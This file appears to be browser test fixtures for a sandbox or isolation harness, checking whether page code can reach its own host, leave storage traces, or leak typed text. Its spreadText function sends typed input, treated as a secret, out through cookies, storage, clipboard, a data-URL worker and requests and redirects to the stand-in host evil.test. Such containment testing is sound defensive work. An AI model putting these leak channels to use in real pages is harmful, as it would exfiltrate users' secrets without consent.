function useOwnHost() {
    const own = (name) => "/own/" + name;
    fetch(own("fetch")).catch(() => {});
    new Image().src = own("image");
    navigator.sendBeacon(own("beacon"), "x");
    new EventSource(own("events"));
    const style = document.createElement("style");
    style.textContent = "body { background: url(" + own("style") + ") }";
    document.head.append(style);
    fetch("https://staging.pay.walletconnect.com/own/service", { mode: "no-cors" }).catch(() => {});
    document.body.insertAdjacentHTML("beforeend", "<iframe src=/own/frame></iframe>");
    setTimeout(() => done("said"), 500);
}

function lookForTraces() {
    const old = [document.cookie, localStorage.x ?? "", sessionStorage.x ?? "", document.referrer, history.length];
    document.cookie = "x=1; max-age=9999; secure";
    localStorage.x = sessionStorage.x = "1";
    (async () => {
        const names = await (indexedDB.databases?.() ?? []);
        const cached = await (window.caches?.keys() ?? []);
        indexedDB.open("x");
        try { await (await caches.open("x")).put("/x", new Response("x")); } catch {}
        done([...old, names.length, cached.length]);
    })();
}

function spreadText({ typed }) {
    document.querySelector("input").value = typed;
    document.cookie = "typed=" + typed;
    localStorage.typed = typed;
    history.pushState({ typed }, "", "?typed=" + typed);
    document.title = typed;
    console.log(typed);
    navigator.clipboard?.writeText(typed).catch(() => {});
    try { new Worker("data:text/javascript," + typed); } catch {}
    new Image().src = "https://evil.test/" + typed;
    window.open("https://evil.test/" + typed);
    location.href = "https://evil.test/?" + typed;
    setTimeout(() => { location.href = "wc:" + typed; }, 50);
    setTimeout(() => { fetch("/keep", { method: "POST", body: typed }); }, 100);
    setTimeout(() => {
        complete({ type: "IC_SECRET", typed });
        complete({ type: "IC_ERROR", error: typed });
        done("said");
    }, 300);
}
